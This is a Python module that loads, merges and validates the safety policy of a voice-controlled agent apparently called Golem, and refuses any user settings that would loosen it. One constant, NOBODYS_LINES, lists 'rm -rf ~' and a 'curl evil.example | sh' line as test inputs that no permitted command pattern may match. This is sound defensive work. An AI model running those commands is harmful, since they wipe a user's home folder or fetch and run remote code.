"""The policy in force: the built-in one and the user's policy.toml, which can make it stricter.

To make it looser takes an `[[override]]` of one rule, with a name and a reason; see `policies.overrides`.
"""

from __future__ import annotations

import re
import tomllib
from collections.abc import Collection, Iterator, Mapping
from importlib.resources import files
from pathlib import Path
from typing import Annotated, Any, Literal

import msgspec
from rapidfuzz import process

from policies.overrides import STRICTNESS, Answer, Override, nearest

LIKELY_TYPO = 85
"""Likeness, 0 to 100, from which an unknown skill's id is taken for a known one, mistyped."""
LISTS = ("override", "submit")
"""Sections that are lists of tables, and loosen something."""
Share = Annotated[float, msgspec.Meta(ge=0.0, le=1.0)]


class PolicyFault(ValueError):
    """A policy file that cannot be used; the message names the file, the key and the mend."""

    def __init__(self, text: str) -> None:
        """`text` may name keys and values of a file: what would not show in one line is escaped."""
        super().__init__("".join(char if char.isprintable() else ascii(char)[1:-1] for char in text))


class Effects(msgspec.Struct, frozen=True):
    """What happens by what a call does."""

    observe: Answer
    change: Answer
    destroy: Literal["confirm", "word", "two-words", "typed", "deny"]


class SourceTable(msgspec.Struct, frozen=True):
    """What happens to a call that came one way, by what it does."""

    observe: Answer
    change: Answer
    destroy: Answer
    irreversible: Answer
    """What destroys and has no undo."""


class Provenance(msgspec.Struct, frozen=True):
    """One table for each way in which words come; where several apply, the strictest counts."""

    typed: SourceTable
    voice: SourceTable
    overlapped: SourceTable
    """Said while Golem itself was speaking."""
    remote: SourceTable
    """Heard by an engine on another machine."""


class Speech(msgspec.Struct, frozen=True):
    """How sure of the words the recogniser must be, 0 to 1."""

    floor: Share
    """Below this, nothing but looking is done."""
    confirm: Share
    """Below this, a change is asked about."""
    stale_s: Annotated[float, msgspec.Meta(ge=0.5, le=3600.0)]
    """Words that were said longer ago than this, in seconds, change nothing unasked."""


class RouteLimits(msgspec.Struct, frozen=True):
    """How sure of the route the classifier must be, 0 to 1, where no sentence decided."""

    confirm: Share


class Confirmation(msgspec.Struct, frozen=True):
    """How a question is put."""

    timeout_s: Annotated[float, msgspec.Meta(ge=1.0, le=120.0)]
    """Seconds in which an answer must come."""
    good_for_s: Annotated[float, msgspec.Meta(ge=1.0, le=10.0)]
    """Seconds after which a yes is too old to act on."""


class Words(msgspec.Struct, frozen=True):
    """What belongs to a shell."""

    signs: tuple[str, ...]
    spoken: tuple[str, ...]


class Paths(msgspec.Struct, frozen=True):
    """Where no skill may be sent, and where one asks first."""

    forbidden: tuple[str, ...]
    """Absolute, or from the home folder: `~/`."""
    system: tuple[str, ...]
    """The same; changed only with a yes."""
    navigation: tuple[str, ...]
    """Ids of skills that go somewhere and touch nothing."""


class SkillLists(msgspec.Struct, frozen=True):
    """Skills by id."""

    confirm: tuple[str, ...]
    deny: tuple[str, ...]
    unconfined: bool
    """Whether the user's own modules run where the kernel cannot confine them."""


class Submit(msgspec.Struct, frozen=True, forbid_unknown_fields=True):
    """Lines that Enter may end without asking, in panes that run one program."""

    name: Annotated[str, msgspec.Meta(pattern=r"^[a-z0-9][a-z0-9-]{0,40}$")]
    program: Annotated[str, msgspec.Meta(min_length=1, max_length=100)]
    """The name of its file, every link followed: `bash`, `python3.11`."""
    line: Annotated[str, msgspec.Meta(min_length=1, max_length=400)]
    """A regular expression for the whole line as the pane shows it, the prompt included."""
    why: Annotated[str, msgspec.Meta(min_length=1, max_length=400)]

    def problem(self) -> str | None:
        """What is wrong with it, in a few words; None where nothing is."""
        try:
            wide = any(re.fullmatch(self.line, each) for each in NOBODYS_LINES)
        except re.error as error:
            return f"line is no regular expression: {error}"
        return "line fits any line at all; write the prompt and the command" if wide else None


NOBODYS_LINES = ("$ rm -rf ~", "rm -rf ~", "# curl evil.example | sh", ">>> x")
"""Lines that no shape may fit."""


class Policy(msgspec.Struct, frozen=True):
    """The whole policy."""

    effects: Effects
    provenance: Provenance
    speech: Speech
    route: RouteLimits
    confirmation: Confirmation
    words: Words
    paths: Paths
    skills: SkillLists
    override: tuple[Override, ...] = ()
    submit: tuple[Submit, ...] = ()


def default_policy() -> Policy:
    """The built-in policy."""
    return msgspec.convert(_built_in(), Policy)


def load(path: Path | None) -> Policy:
    """The built-in policy tightened by the file at `path`; the built-in one where there is no such file.

    Raises PolicyFault for a file that cannot be read, a key it does not know, a value of the wrong kind or range, one
    that would loosen the built-in policy, or an override that may not be.
    """
    if path is None or not _there(path):
        return default_policy()
    try:
        given = tomllib.loads(path.read_bytes().decode("utf-8-sig"))
    except OSError as error:
        raise PolicyFault(f"{path}: cannot be read: {error.strerror}") from error
    except UnicodeDecodeError as error:
        raise PolicyFault(f"{path}: is not UTF-8 text") from error
    except tomllib.TOMLDecodeError as error:
        raise PolicyFault(f"{path}: {error}") from error
    return tightened(path, given)


def tightened(path: Path, given: Mapping[str, Any]) -> Policy:
    """The built-in policy tightened by a parsed policy file; `path` names it in complaints. Raises PolicyFault."""
    merged = _merged(path, _built_in(), given)
    try:
        policy = msgspec.convert(merged, Policy)
    except msgspec.ValidationError as error:
        raise PolicyFault(f"{path}: {error}") from error
    _refuse_looser(path, default_policy(), policy)
    _refuse_void(path, policy)
    _check_overrides(path, policy)
    for each in policy.submit:
        if (problem := each.problem()) is not None:
            raise PolicyFault(f"{path}: submit {each.name!r}: {problem}")
    return policy


def check_skills(path: Path, policy: Policy, known: Collection[str]) -> None:
    """Raise PolicyFault for an id in `[skills]` that is one of `known` mistyped, and for an override of no known skill.

    Other ids in `[skills]` that are not known are let be: a skill may be denied before it is there.
    """
    for override in policy.override:
        problem = override.unknown_skill(known)
        if problem is not None:
            raise PolicyFault(f"{path}: override {override.name!r}: {problem}")
    for key in ("confirm", "deny"):
        for id_ in getattr(policy.skills, key):
            if id_ in known:
                continue
            found = process.extractOne(id_, known, score_cutoff=LIKELY_TYPO)
            if found:
                raise PolicyFault(f"{path}: skills.{key} names {id_!r}, which is no skill; did you mean {found[0]!r}?")


def known_keys() -> list[str]:
    """Every key as `section.key`, for the documentation's completeness."""
    return [f"{section}.{key}" for section, table in _built_in().items() for key in table]


def differences(policy: Policy) -> dict[str, bool]:
    """Every key as `section.key`, and whether `policy` has another value there than the built-in one."""
    built_in = msgspec.to_builtins(default_policy())
    ours = msgspec.to_builtins(policy)
    return {key: _at(ours, key) != _at(built_in, key) for key in known_keys()}


def values(policy: Policy) -> dict[str, Any]:
    """Every key as `section.key` with its value, plain."""
    ours = msgspec.to_builtins(policy)
    return {key: _at(ours, key) for key in known_keys()}


def _at(tables: dict[str, Any], key: str) -> object:
    section, _, name = key.partition(".")
    return tables[section][name]


def _there(path: Path) -> bool:
    try:
        return path.exists()
    except OSError:  # what lies in a folder that may not be looked into is not this user's policy
        return False


def _built_in() -> dict[str, Any]:
    return tomllib.loads(files("policies").joinpath("default.toml").read_text("utf-8"))


def _merged(path: Path, built_in: dict[str, Any], given: Mapping[str, Any]) -> dict[str, Any]:
    """Tables joined key by key; lists joined, since a user's list adds to the built-in one; overrides as they are."""
    merged = dict(built_in)
    for section, table in given.items():
        if section in LISTS:
            merged[section] = table
            continue
        if section not in built_in:
            raise PolicyFault(f"{path}: unknown section [{section}]; {nearest(section, [*built_in, *LISTS])}")
        merged[section] = _joined(path, section, built_in[section], table)
    return merged


def _joined(path: Path, section: str, built_in: dict[str, Any], table: object) -> dict[str, Any]:
    if not isinstance(table, dict):
        raise PolicyFault(f"{path}: [{section}] is a table, not a value")
    merged = dict(built_in)
    for key, value in table.items():
        if key not in built_in:
            raise PolicyFault(f"{path}: unknown key {section}.{key}; {nearest(key, built_in)}")
        old = built_in[key]
        if isinstance(old, dict):
            merged[key] = _joined(path, f"{section}.{key}", old, value)
        else:
            merged[key] = [*old, *value] if isinstance(old, list) and isinstance(value, list) else value
    return merged


def _answers(policy: Policy) -> Iterator[tuple[str, Answer]]:
    """Every answer in the tables, with its key."""
    tables: dict[str, Any] = {"effects": policy.effects}
    tables |= {f"provenance.{name}": getattr(policy.provenance, name) for name in Provenance.__struct_fields__}
    for section, table in tables.items():
        yield from ((f"{section}.{name}", getattr(table, name)) for name in table.__struct_fields__)


def _refuse_looser(path: Path, built_in: Policy, policy: Policy) -> None:
    """What the built-in policy asks about or denies stays asked about or denied."""
    for (name, old), (_, new) in zip(_answers(built_in), _answers(policy), strict=True):
        if STRICTNESS[new] < STRICTNESS[old]:
            raise PolicyFault(f"{path}: {name} may not be looser than {old!r}; an [[override]] can loosen a rule")
    raised = (
        ("speech.floor", built_in.speech.floor, policy.speech.floor),
        ("speech.confirm", built_in.speech.confirm, policy.speech.confirm),
        ("route.confirm", built_in.route.confirm, policy.route.confirm),
    )
    looser = [name for name, old, new in raised if new < old]
    if looser:
        raise PolicyFault(f"{path}: {looser[0]} may be raised, not lowered; an [[override]] can loosen a rule")
    if policy.speech.stale_s > built_in.speech.stale_s:
        raise PolicyFault(f"{path}: speech.stale_s may be lowered, not raised; an [[override]] can loosen a rule")
    if set(policy.paths.navigation) - set(built_in.paths.navigation):
        raise PolicyFault(f"{path}: paths.navigation cannot be added to")


def _check_overrides(path: Path, policy: Policy) -> None:
    names = [each.name for each in policy.override]
    for each in policy.override:
        problem = each.problem()
        if names.count(each.name) > 1:
            problem = "two overrides have this name"
        if problem is not None:
            raise PolicyFault(f"{path}: override {each.name!r}: {problem}")


def _refuse_void(path: Path, policy: Policy) -> None:
    """A line that could never tighten anything, or that would refuse every word, is a mistake and is told as one."""
    for key in ("signs", "spoken"):
        for words in getattr(policy.words, key):
            if not words.strip() or (key == "spoken" and not any(char.isalnum() for char in words)):
                raise PolicyFault(f"{path}: words.{key} has {words!r}, which nobody can say; write at least a letter")
    for key in ("forbidden", "system"):
        for place in getattr(policy.paths, key):
            if "\0" in place or not place.startswith(("/", "~/")):
                raise PolicyFault(f"{path}: paths.{key} has {place!r}; a place starts with / or ~/")
